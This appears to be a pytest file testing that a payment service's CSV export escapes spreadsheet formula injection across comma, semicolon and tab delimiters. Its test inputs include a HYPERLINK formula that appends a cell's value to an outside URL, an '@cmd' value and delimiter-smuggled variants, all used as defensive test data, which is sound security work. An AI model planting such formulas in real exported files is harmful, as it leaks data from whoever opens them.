"""CSV files: whatever stands in a cell, no spreadsheet computes it, at whichever sign it parts the lines."""

import csv
import io

import pytest

from payment_service.spreadsheets import cell, value_of

FORMULA = '=HYPERLINK("https://example.kz?"&A1,1)'


@pytest.mark.parametrize("parted_at", [",", ";", "\t"])
@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        f"refused;{FORMULA}",
        f'refused;"{FORMULA}";"=1+1"',
        "a;;@cmd",
        "a\t-1",
        f'"{FORMULA}',
        "'=1",
        "''+1;'-1",
    ],
)
def test_no_part_of_a_cell_is_a_formula_and_the_text_comes_back(text: str, parted_at: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([1, cell(text), cell(text)])
    [cells] = csv.reader([out.getvalue()], delimiter=parted_at)
    assert not [one for one in cells if one.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert value_of(str(cell(text))) == text


@pytest.mark.parametrize("text", ["роза; тюльпан", "a - b", "5;7", "x=1", "it's", ""])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert cell(text) == text == value_of(text)
